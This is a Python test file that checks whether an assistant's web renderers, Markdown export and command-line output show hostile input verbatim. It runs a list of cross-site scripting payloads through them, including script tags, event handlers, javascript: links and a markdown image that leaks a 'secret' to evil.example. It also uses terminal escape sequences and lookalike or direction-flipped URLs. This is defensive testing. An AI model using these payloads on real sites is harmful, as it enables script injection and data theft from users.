"""Hostile text through every renderer of the page: it is shown verbatim, and makes no element, attribute or link.

T8 and F30 to F35. A drawing of payloads must have just the elements, attributes and links that a drawing of plain
words has; a few renderers mark, cut or leave out text, and of these no element or attribute may be a new one.
"""

import json
import random
import re
import time
import unicodedata
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, replace
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from conftest import ROOT, Run
from lxml import html
from markdown_it import MarkdownIt

from assistant import rendering
from assistant.answering import Assistant, checked
from assistant.errors import QuestionError
from assistant.exporting import Exchange, Exported, markdown_bytes
from assistant.feedback import Feedback, FeedbackRow
from assistant.finding import Finding, FoundPassage
from assistant.living import LiveAssistant
from assistant.page import found, maintaining_index, messages
from assistant.page.api_page import ADDRESS
from assistant.page.escaping import balanced, in_fragment, in_markdown, isolated
from assistant.page.fragment import article, sentence
from assistant.page.library import drawn
from assistant.page.library_entries import entries
from assistant.page.links import web_host
from assistant.page.maintaining_feedback import cells, reports_shown
from assistant.page.maintaining_index import difference_shown, generations
from assistant.page.maintaining_trial import place
from assistant.page.report_frame import Report
from assistant.page.tables import notice, section, table
from assistant.page.trying import Trial
from assistant.receipts import receipt_of, to_json
from assistant.shortening import shortened
from assistant.types import Answer, AnswerSentence, Citation, NearArticle
from index.errors import BackchannelError
from index.filters import Filters
from index.protocol import IndexStatus
from index.summaries import Summary
from index.types import Document, Passage, ScoredPassage, Span
from index.upkeep import Difference, Entry

if TYPE_CHECKING:
    from llm_server import Serve

SHARED = ROOT.parent / "shared" / "safety" / "xss_payloads.jsonl"
OWN = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)' x='",
    "</title></textarea></style></script><svg onload=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object>",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example/x.css';</style><link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><input name=q autofocus onfocus=alert(1)></form>",
    "![leak](http://evil.example/?q=secret) [x]: http://evil.example 'title'\n\n[x]",
    "[click](javascript:alert(1)) <javascript:alert(1)> https://evil.example www.evil.example",
    "<!--><script>alert(1)</script>--> <![CDATA[x]]> <?php x ?> &lt;b&gt; `code` $$x^2$$ | a |",
]
MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
ALL: list[str] = [json.loads(line)["payload"] for line in SHARED.open(encoding="utf-8")] if SHARED.exists() else OWN
ALL = [each for each in dict.fromkeys(ALL) if each.strip()]
STATUS = IndexStatus("g", 3, 3, 3, "e", "d", "2026-11-26T08:00:00+00:00", 1, "t-SNE", 0.8)
STEMS = {"alert": 1.0, "script": 1.0, "onload": 0.5, "svg": 0.5, "word": 1.0}
HOME = Path("/home")
OURS = re.compile(r"#(?:[acq]|ask|report)?/[A-Za-z0-9_.~%/-]+")


def plain(count: int) -> list[str]:
    return [f"plain word {number}" for number in range(count)]


def one_line(text: str) -> str:
    """As all of it reads once white space is aside."""
    return " ".join(text.split())


# -- the renderers -----------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Renderer:
    """`draw` puts texts into its places; `read` are XPaths, each of which finds all the texts, in any order.

    `varies`: how many elements there are hangs on the text.
    """

    draw: Callable[[Sequence[str]], str]
    read: tuple[str, ...] = ()
    markdown: bool = True
    varies: bool = False


def answer_of(texts: Sequence[str], outcome: str = "answered") -> Answer:
    """An answer of a language model with each text in all its places."""
    numbers = range(1, len(texts) + 1)
    covered = outcome == "answered"
    return Answer(
        question="x",
        understood=" ".join(map(one_line, texts)) if covered else "x",
        outcome="answered" if covered else "not_covered",
        sentences=tuple(AnswerSentence(t, "unsupported", (n,), lead_in=t) for n, t in zip(numbers, texts, strict=True)),
        citations=tuple(cited(n, t) for n, t in zip(numbers, texts, strict=True)),
        passages=(),
        missing=tuple(f"{each}." for each in texts),  # what ends in a question mark is told in another way
        nearest=() if covered else tuple(NearArticle(t, t, t, 0.5) for t in texts),
        confidence=0.9,
        writer="llm",
        generation="g",
        ledger={},
        notices=tuple(texts),
    )


def cited(number: int, text: str) -> Citation:
    source = dict.fromkeys(("id", "title", "author", "publisher", "year", "url"), text)
    return Citation(number, text, "v", text, text, text, 0, 5, text, (source,), 0, (text,))


def fragment(text: str) -> str:
    """An article of nothing but the text."""
    metadata = {
        **dict.fromkeys(("questions", "regions", "topics", "track", "related"), [text]),
        "sources": [dict.fromkeys(("id", "title", "author", "url", "year"), text)],
        "period": text,
    }
    line = one_line(text)
    document = Document(text, text, line, text, text, metadata, headings=(Span(0, 1),), version="v")
    return article(document, Span(0, len(line)), [("#a/g/x", text)])


def passages(texts: Sequence[str]) -> tuple[FoundPassage, ...]:
    made = (
        Passage(f"p{n}", text, 0, len(text) or 1, text, 5, text, text, n) for n, text in enumerate(texts, 1)
    )  # its heading, text and title
    return tuple(FoundPassage(each.key, ScoredPassage(each, 0.5, 0.5, 0.5), "both", None, None) for each in made)


def listed(texts: Sequence[str]) -> str:
    def of(some: Sequence[str]) -> str:
        joined = one_line(" ".join(some))
        return found.listed(Finding("x", joined, Filters(), "g", passages(some), {}, {}, STEMS), "relevance", 50)

    return "".join(of(texts[start : start + 50]) for start in range(0, len(texts), 50))


def summaries(texts: Sequence[str]) -> list[Summary]:
    return [
        Summary(t, t, t, t, t, (), 1990, 1995, (t,), (t,), ("two",), (), 3, n / len(texts), 1 - n / len(texts))
        for n, t in enumerate(texts)
    ]


def feedback(texts: Sequence[str]) -> str:
    receipt: Any = None  # not shown
    rows = [cells(FeedbackRow(n, t, n % 2 == 0, True, t, t, t, receipt)) for n, t in enumerate(texts)]
    return messages.safe_markdown(f"<div>{table('feedback', list('abcdef'), rows)}</div>")


def trial(texts: Sequence[str]) -> str:
    either: Any = None  # neither ranking is looked at
    asked = Trial("g", either, either, {})
    rows = "".join(place(n, each.scored, asked, False) for n, each in enumerate(passages(texts), 1))
    return messages.safe_markdown(f'<div><ol class="ranking">{rows}</ol></div>')


def differences(texts: Sequence[str]) -> str:
    return "".join(difference_shown(each, each, Difference((each,), (each,), (), ())) for each in texts)


def history(texts: Sequence[str]) -> str:
    return generations([Entry(each, False, {}, each) for each in texts], HOME)


def each(draw: Callable[[str], str]) -> Callable[[Sequence[str]], str]:
    return lambda texts: "".join(draw(text) for text in texts)


TITLES = "//*[@class='title']"
RENDERERS = {
    "question": Renderer(each(messages.asked), ("//h2",)),
    "refusal": Renderer(each(lambda text: messages.refused(BackchannelError(f"{text}|"))), ("//p",)),
    "aside": Renderer(each(messages.aside), ("//p",)),
    "status line": Renderer(each(messages.status), ("//p",)),
    "masthead": Renderer(each(lambda text: messages.served(STATUS, text))),
    "answer": Renderer(
        lambda texts: messages.answered(answer_of(texts)),
        ("//span[@class='unsupported']", "//span[@class='lead']", "//a/@title", "//p[@class='quiet']"),
    ),
    "growing answer": Renderer(lambda texts: messages.answered(answer_of(texts), 10**6), ("//span[@class='lead']",)),
    "not covered": Renderer(lambda texts: messages.answered(answer_of(texts, "not_covered")), (TITLES,)),
    "cards": Renderer(lambda texts: messages.cards(answer_of(texts)), ("//h3", "//q", "//a/@title")),
    "nearest": Renderer(
        lambda texts: messages.cards(answer_of(texts, "not_covered")), (TITLES, "//*[@class='summary']")
    ),
    "next questions": Renderer(lambda texts: messages.questions(texts[0], texts), ("//li/a",)),
    "list of articles": Renderer(lambda texts: messages.library(summaries(texts), "g"), (TITLES,)),
    "found": Renderer(listed, ("//a[@class='title']",), varies=True),
    "not found": Renderer(each(lambda text: found.notice(text)), ("//p",)),
    "article": Renderer(
        each(fragment),
        (
            "//h2",
            "//mark[@class='quote']",
            "//p[@class='date']",
            "//div[@class='asking']//li",
            "//ul[@class='related']/li",
        ),
        markdown=False,
        varies=True,  # some payloads are web addresses, which become links
    ),
    "sentence": Renderer(each(sentence), ("//p",), markdown=False),
    "library": Renderer(
        lambda texts: drawn(entries(summaries(texts)), STATUS),
        ("//td[@class='title']//bdi", "//svg[contains(@class, 'wide')]//a/@data-title"),
        markdown=False,
        varies=True,  # the map has as many names as there is room for
    ),
    "feedback": Renderer(feedback),
    "retrieval test": Renderer(trial),
    "generations": Renderer(history),
    "differences": Renderer(differences),
    "maintainer's notices": Renderer(lambda texts: section(texts[0], "".join(map(notice, texts)))),
    "reports": Renderer(lambda texts: reports_shown([Report(t, t) for t in texts], HOME), ("//a",)),
}


def parsed(markup: str) -> Any:
    return html.document_fromstring(f"<!doctype html><body>{markup}</body>")


def shape(tree: Any) -> Counter[tuple[str, ...]]:
    """How often each element, with its attributes' names, comes; comments and the like are elements as well."""
    return Counter((str(node.tag), *sorted(node.attrib)) for node in tree.iter())


def read(tree: Any, path: str) -> list[str]:
    return [one_line(node if isinstance(node, str) else node.text_content()) for node in tree.xpath(path)]


def check(name: str, texts: Sequence[str], benign: Counter[tuple[str, ...]]) -> None:
    """The property."""
    renderer = RENDERERS[name]
    markup = renderer.draw(texts)
    if renderer.markdown:
        assert MARKDOWN.render(markup) == markup  # one block of HTML, in which Markdown finds nothing
    tree = parsed(markup)
    seen = shape(tree)
    new = {*seen} - {*benign, *LINKED} if renderer.varies else seen - benign
    assert not new, f"{name}: {new}"
    for link in tree.xpath("//a"):
        address = link.get("href", "")
        outside = link.get("target") == "_blank" and re.match(r"(?i)https?://", address)
        assert OURS.fullmatch(address) or address == "#/library" or outside, address
    for path in renderer.read:
        shown = set(read(tree, path))
        missing = [text for text in map(one_line, texts) if text not in shown and not beside(text, shown)]
        assert not missing, f"{name} {path}: {missing[:3]}"


LINKED = {("a", "href", "rel", "target"), ("bdi", "dir"), ("bdi",), ("mark",), ("span", "class")}


def beside(text: str, shown: set[str]) -> bool:
    """Whether it is shown with words of ours around it."""
    return any(text in each for each in shown)


def chunks(texts: Sequence[str], size: int) -> Iterator[Sequence[str]]:
    for start in range(0, len(texts), size):
        yield texts[start : start + size]


@pytest.fixture
def _unlimited(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(messages, "LISTED", 10**6)
    monkeypatch.setattr(maintaining_index, "LISTED", 10**6)


@pytest.mark.usefixtures("_unlimited")
@pytest.mark.parametrize("name", RENDERERS)
def test_t8_markup_makes_nothing_in(name: str) -> None:
    sample = [*OWN, *random.Random(8).sample(ALL, min(len(ALL), 288))]
    for some in chunks(sample, 100):
        check(name, some, shape(parsed(RENDERERS[name].draw(plain(len(some))))))


@pytest.mark.slow
@pytest.mark.usefixtures("_unlimited")
@pytest.mark.parametrize("name", RENDERERS)
def test_t8_all_payloads_make_nothing_in(name: str, shared: Path) -> None:
    assert len(ALL) >= 6_580  # of 6,613, all that are not the same
    for some in chunks(ALL, 300):
        check(name, some, shape(parsed(RENDERERS[name].draw(plain(len(some))))))


@pytest.mark.parametrize("text", OWN)
def test_the_property_sees_what_is_not_escaped(text: str) -> None:
    raw = Renderer(lambda texts: f"<div><p title='{texts[0]}'>{texts[0]}</p></div>", ("//p",))
    with pytest.MonkeyPatch.context() as patch:
        patch.setitem(RENDERERS, "raw", raw)
        with pytest.raises(AssertionError):
            check("raw", [text], shape(parsed(raw.draw(["plain"]))))


def exported(texts: Sequence[str]) -> str:
    """A conversation of the texts as Markdown."""
    none: Any = type("Fake", (), {"filters": {"since": None, "until": None, "regions": [], "topics": [], "track": []}})
    exchanges = tuple(Exchange(none, replace(answer_of([t]), question=one_line(t)), 0) for t in texts)
    moment: Any = type("Fake", (), {"date": lambda: type("Fake", (), {"isoformat": lambda: "2026-11-26"})})
    return markdown_bytes(Exported(one_line(texts[0]), moment, exchanges)).decode()


def no_markup_in_export(texts: Sequence[str]) -> None:
    tree = parsed(MARKDOWN.render(exported(texts)))
    foreign = {str(node.tag) for node in tree.iter()} - {"html", "body", "h1", "h2", "p", "em", "hr", "a"}
    assert not foreign
    assert all(re.match(r"(?i)https?://", link.get("href")) for link in tree.xpath("//a"))
    assert {name for node in tree.iter() for name in node.attrib} <= {"href"}
    assert set(map(one_line, texts)) <= set(read(tree, "//h2"))


def test_t8_markup_makes_nothing_in_an_export() -> None:
    no_markup_in_export([*OWN, *random.Random(9).sample(ALL, min(len(ALL), 60))])


@pytest.mark.slow
def test_t8_all_payloads_make_nothing_in_an_export(shared: Path) -> None:
    for some in chunks(ALL, 500):
        no_markup_in_export(some)


def test_t8_no_payload_is_taken_for_the_address_of_the_api() -> None:
    assert [each for each in ALL if ADDRESS.fullmatch(each.rstrip("/")) and set(each) & set("<>\"'&")] == []


# -- F33: direction ----------------------------------------------------------------------------------------------------

RLO, LRO, RLI, FSI, PDF, PDI = "\u202e\u202d\u2067\u2068\u202c\u2069"


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("plain", "plain"),
        ("שלום (1993)", "שלום (1993)"),
        (f"{RLO}gpj.exe", f"{RLO}gpj.exe{PDF}"),
        (f"{PDI}{PDF}{RLO}x", f"{RLO}x{PDF}"),
        (f"{RLI}a{RLO}b{PDI}c", f"{RLI}a{RLO}b{PDI}c"),
        (f"{RLO}a{RLI}b{PDF}c", f"{RLO}a{RLI}bc{PDI}{PDF}"),
        (f"{FSI}a{LRO}b", f"{FSI}a{LRO}b{PDF}{PDI}"),
    ],
)
def test_f33_marks_of_direction_end_with_their_text(text: str, kept: str) -> None:
    assert balanced(text) == balanced(kept) == kept
    assert in_markdown(text) == in_markdown(kept)
    assert in_fragment(text) == in_fragment(kept)


def test_f33_text_among_text_is_isolated_where_it_may_turn() -> None:
    assert isolated("Time, 1993") == "Time, 1993"
    assert isolated("Élan") == "Élan"
    assert isolated("הארץ, 1993") == f"{FSI}הארץ, 1993{PDI}"
    assert isolated(f"{PDI}{RLO}x") == f"{FSI}{RLO}x{PDF}{PDI}"


@pytest.mark.parametrize(
    ("address", "host"),
    [
        (f"https://{RLO}moc.elgoog/", ""),
        (f"https://good.example{RLO}/x", ""),
        ("https://evil.example\\@good.example/", ""),  # a browser goes to evil.example
        ("https://ev%69l.example/", ""),
        ("https://good\u200b.example/", ""),
        ("https://good.example\u3002evil.example/", ""),
        ("https://שלום.example/", "שלום.example"),
        ("https://bücher.example/", "bücher.example"),
        ("https://[::1]:8080/", "::1"),
    ],
)
def test_f33_no_host_is_shown_that_is_not_gone_to(address: str, host: str) -> None:
    assert web_host(address) == host


def test_f33_every_text_from_elsewhere_stands_by_itself() -> None:
    shown = messages.answered(answer_of(["אחת", f"{RLO}two"])) + messages.cards(answer_of(["אחת"]))
    tree = parsed(shown)
    for path in ("//p[@class='said']", "//h3", "//q", "//span[@class='lead']"):
        for node in tree.xpath(path):
            assert node.xpath(".//bdi"), path
    assert f"{FSI}אחת, אחת, אחת, אחת{PDI}" in tree.text_content()


# -- F34: what people see as one character -----------------------------------------------------------------------------

ACUTE = "\u0301"
FAMILY = "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466"
ZALGO = "Z" + "\u0334\u0300\u0489" * 40
CLUSTERS = [
    FAMILY,
    ZALGO,
    "\U0001f1f3\U0001f1f4",
    "\U0001f44d\U0001f3fd",
    "e\u0301",
    "\u0915\u094d\u0937\u093f",
    "\r\n",
]


@pytest.mark.parametrize("cluster", CLUSTERS)
def test_f34_no_character_is_cut(cluster: str) -> None:
    text = f"ab{cluster}" * 60
    for most in range(1, 3 * len(cluster) + 8):
        cut = shortened(text, most).removesuffix("…")
        assert text.startswith(cut)
        assert cut.replace(cluster, "") in {"", *(f"{'ab' * n}{end}" for n in range(9) for end in ("", "a"))}
        assert len(cut) <= max(most, 1)
    assert shortened(text, len(text)) == text


def test_f34_ten_thousand_marks_are_one_character() -> None:
    text = "a" + "\u0301" * 10_000
    assert shortened(text, 300) == text
    assert shortened(f"{text}b", 300) == f"{text}…"
    assert shortened(f"b{text}", 300) == "b…"


@pytest.mark.alone
@pytest.mark.slow
@pytest.mark.parametrize("name", RENDERERS)
def test_f34_time_grows_with_the_text(name: str) -> None:
    """Linear, near enough: four times the marks take at most eight times as long. The longest are printed."""
    draw = RENDERERS[name].draw
    draw(["warm"])

    def seconds(marks: int) -> float:
        texts = [f"a{ACUTE * marks} {FAMILY * (marks // 50)} {RLO * (marks // 20)}"]
        times = []
        for _ in range(3):
            begun = time.perf_counter()
            draw(texts)
            times.append(time.perf_counter() - begun)
        return min(times)

    short, long = seconds(10_000), seconds(40_000)
    print(f"{name}: {short * 1000:.1f} ms for 10,000 marks, {long * 1000:.1f} ms for 40,000")
    assert long <= 8 * short + 0.005


# -- F35: no question --------------------------------------------------------------------------------------------------

NO_QUESTION = [
    "",
    " ",
    "\t\n",
    "?",
    "???",
    "!",
    "...",
    "…",
    "—",
    "\u200b",
    "\u00ad\u200b",
    "\u3000",
    "\x00",
    "()",
    "？",
]
TOO_LITTLE = ["a", "x?", "the", "what is the", "of the and"]


@pytest.mark.parametrize("question", NO_QUESTION)
def test_f35_a_question_without_words_is_refused_in_a_sentence(question: str) -> None:
    with pytest.raises(QuestionError, match=r"^The question (is empty|'.*' has no words)"):
        checked(question)


@pytest.fixture
def callbacks(assistant: Assistant, monkeypatch: pytest.MonkeyPatch) -> Any:
    from assistant.page import streaming
    from assistant.page.callbacks import Callbacks
    from assistant.page.front import Front

    monkeypatch.setattr(streaming, "PAUSE", 0.0)
    live = LiveAssistant(assistant)
    return Callbacks(live, Front(live))


@pytest.mark.slow
def test_f35_no_question_is_no_call_of_a_model_on_page_and_api(assistant: Assistant, serve: "Serve") -> None:
    from fastapi import FastAPI
    from llm_server import asking
    from starlette.testclient import TestClient

    from assistant.page.api import build_api
    from assistant.page.callbacks import Callbacks
    from assistant.page.front import Front

    server = serve()
    live = LiveAssistant(asking(assistant, server))
    page = Callbacks(live, Front(live))
    service = FastAPI()
    service.mount("/api", build_api(live))
    client = TestClient(service)
    for question in [*NO_QUESTION, *TOO_LITTLE]:
        last = [step for step in page.ask(question, "") if isinstance(step[3], str)][-1]
        said = html.fromstring(f"<div>{last[3]}{last[1][-1]['content'] if isinstance(last[1], list) else ''}</div>")
        words = ("Type a question first", "The question", "The articles do not cover this")
        assert any(each in said.text_content() for each in words), question
        answer = client.post("/api/ask", json={"question": question})
        assert answer.status_code in ({422} if question in NO_QUESTION else {200, 422}), (question, answer.text)
        told = answer.json()
        if answer.status_code == 200:
            assert told["outcome"] == "not_covered", question
        else:
            assert "question" in told["error"].lower(), told
    assert server.requests == []


# -- F30: strings that break things ------------------------------------------------------------------------------------

BLNS = SHARED.with_name("blns.jsonl")
NAUGHTY: list[str] = (
    [json.loads(line)["payload"] for line in BLNS.open(encoding="utf-8")]
    if BLNS.exists()
    else [
        "",
        "undefined",
        "\x1b[2J\x1b[31mred",
        "\ud800",
        "\x00nul",
        "1e999",
        "\ufffe",
        "\u202etest\u202c",
        '["',
        "${1/0}",
    ]
)
NAUGHTY += ["\ud800", "\udc00\ud800", "nul\x00in it", "\ufffe\uffff", "\x1b]0;title\x07", "\x9b31m"]
TERMINAL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
FAULTS = "Something went wrong"


@pytest.mark.slow
def test_f30_any_string_is_a_question_a_period_and_a_conversation(callbacks: Any) -> None:
    for text in NAUGHTY:
        for given in ((text, ""), ("How did the Oslo talks start?", text), ("Oslo", "", text)):
            steps = list(callbacks.ask(*given))
            assert steps
            said = "".join(each for step in steps for each in texts_in(step))
            assert FAULTS not in said, given
            said.encode()  # no half surrogates: Gradio could not send them


def texts_in(value: object) -> Iterator[str]:
    """All strings of what Gradio is given."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, list | tuple):
        for each in value:
            yield from texts_in(each)
    elif isinstance(value, dict):
        yield from texts_in(list(value.values()))


@pytest.mark.slow
def test_f30_any_string_is_searched_for_and_filtered_by(assistant: Assistant) -> None:
    from assistant.page.front import Front
    from assistant.page.searching import Searching

    live = LiveAssistant(assistant)
    searching = Searching(live, Front(live))
    for text in NAUGHTY:
        for given in ((text,), ("Oslo", text), ("Oslo", "", [text]), ("Oslo", "", [], [], [], text)):
            said = "".join(texts_in(searching.search(*given)[:2]))
            assert said, given
            assert FAULTS not in said, given
            said.encode()


@pytest.mark.slow
def test_f30_any_string_is_a_note_and_the_name_of_a_conversation(
    assistant: Assistant, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from fastapi import FastAPI
    from starlette.testclient import TestClient

    from assistant.page.taking import router

    kept = Feedback.open(tmp_path)
    monkeypatch.setattr(Feedback, "open", lambda home: kept)
    service = FastAPI()
    service.include_router(router(LiveAssistant(assistant)))
    client = TestClient(service)
    question = "How did the Oslo talks start?"
    receipt = to_json(receipt_of(assistant, assistant.ask(question)))
    for number, text in enumerate(NAUGHTY):
        name = text[:120]
        form = ("markdown", "docx", "json", "csl")[number % 4]
        for path, body in (
            (f"/export/{form}", {"name": name, "receipts": [receipt]}),
            ("/feedback", {"helpful": True, "note": text, "receipt": receipt, "visitor": f"visitor {number}"}),
        ):
            answer = client.post(path, content=json.dumps(body), headers={"Content-Type": "application/json"})
            assert answer.status_code in (200, 204), (path, text, answer.text)
    rows = kept.rows()
    assert len(rows) == len(NAUGHTY)
    messages.safe_markdown(f"<div>{table('feedback', list('abcdef'), [cells(each) for each in rows])}</div>").encode()


@pytest.mark.slow
def test_f30_no_string_reaches_the_terminal_as_a_command(assistant: Assistant, library: Path, run: Run) -> None:
    commands = [text for text in NAUGHTY if TERMINAL.search(text)]  # no other string has one to let through
    assert len(commands) >= 4
    for text in commands:
        try:
            said = rendering.plain(assistant.ask(text))
        except BackchannelError as error:
            said = str(error)
        assert not TERMINAL.search(said.replace("\n", " ")), text
    for text in ("\x1b[2J\x1b[31mOslo talks", "\x9b31mOslo talks", "\x1b]0;title\x07 Oslo", "\x07?"):
        status, out, err = run("ask", text, "--home", library)
        assert status in (0, 2)
        assert not TERMINAL.search((out + err).replace("\n", " "))


# -- F31 and F32: other ways to write the same -------------------------------------------------------------------------

FULL_WIDTH = {code: code + 0xFEE0 for code in range(0x21, 0x7F)}
LIGATURES = {"ffi": "\ufb03", "ff": "\ufb00", "fi": "\ufb01", "fl": "\ufb02", "st": "\ufb06"}


def within(text: str, sign: str) -> str:
    """The sign in the middle of every longer word."""
    return re.sub(r"\b(\w\w)(\w\w+)", rf"\1{sign}\2", text)


def accented(text: str) -> str:
    return text.translate(str.maketrans("oaei", "öàéî"))


def ligatures(text: str) -> str:
    for letters, sign in LIGATURES.items():
        text = text.replace(letters, sign)
    return text


def bold(text: str) -> str:
    return "".join(chr(0x1D41A + ord(each) - 97) if "a" <= each <= "z" else each for each in text)


TWINS: dict[str, tuple[Callable[[str], str], Callable[[str], str]]] = {
    "NFD": (accented, lambda text: unicodedata.normalize("NFD", accented(text))),
    "NFC of NFD": (accented, lambda text: unicodedata.normalize("NFC", unicodedata.normalize("NFD", accented(text)))),
    "full width": (str, lambda text: text.translate(FULL_WIDTH)),
    "ligatures": (str, ligatures),
    "bold letters (NFKC)": (str, bold),
    "soft hyphen": (str, lambda text: within(text, "\u00ad")),
    "zero width space": (str, lambda text: within(text, "\u200b")),
    "zero width non-joiner": (str, lambda text: within(text, "\u200c")),
    "word joiner": (str, lambda text: within(text, "\u2060")),
    "no-break spaces": (str, lambda text: text.replace(" ", "\u00a0")),
}


@pytest.mark.slow
def test_f31_twins_find_the_same_article(assistant: Assistant) -> None:
    questions = [each.questions[0] for each in assistant.index.summaries() if each.questions]
    assert len(questions) >= 5
    same, pairs = 0, 0
    for number, (name, (usual, other)) in enumerate(TWINS.items()):
        for step in range(5):
            question = questions[(number + step) % len(questions)]
            found_by = [first(assistant, each(question)) for each in (usual, other)]
            pairs += 1
            same += found_by[0] == found_by[1]
            if found_by[0] != found_by[1]:
                print(f"{name}: {question}: {found_by}")
    print(f"F31: {same} of {pairs} pairs with the same first article")
    assert pairs == 50
    assert same >= 49


def first(assistant: Assistant, question: str) -> tuple[str, str]:
    """The first article of a search, and of an answer; "" where it has none."""
    answer = assistant.ask(question)
    return assistant.search(question)[0].passage.doc_id, answer.citations[0].doc_id if answer.citations else ""


LOOKALIKES = str.maketrans("aceopxyiTHOKE", "асеорхуіТНОКЕ")  # Cyrillic
CARELESS: dict[str, Callable[[str], str]] = {
    "letters of other scripts": lambda text: text.translate(LOOKALIKES),
    "one such letter a word": lambda text: re.sub(r"o", "о", text, count=3),
    "accents left out": lambda text: unicodedata.normalize("NFD", text).encode("ascii", "ignore").decode(),
}


@pytest.mark.slow
def test_f32_lookalikes_and_careless_typing_do_no_harm(assistant: Assistant) -> None:
    told = [(each.doc_id, text) for each in assistant.index.summaries() for text in each.questions[:1]][:9]
    told.append(("mozambique-sant-egidio", "How did the Community of Sant’Egidio mediate in Mozambique?"))
    for name, change in CARELESS.items():
        hits = uncovered = 0
        for doc_id, question in told:
            answer = assistant.ask(change(question))  # no error is what is asked for
            uncovered += answer.outcome == "not_covered"
            hits += doc_id in [each.doc_id for each in answer.citations]
            assert all(c.quote == assistant.index.document(c.doc_id).text[c.start : c.end] for c in answer.citations)
        print(f"F32, {name}: {hits} of {len(told)} cite the article, {uncovered} are told that it is not covered")
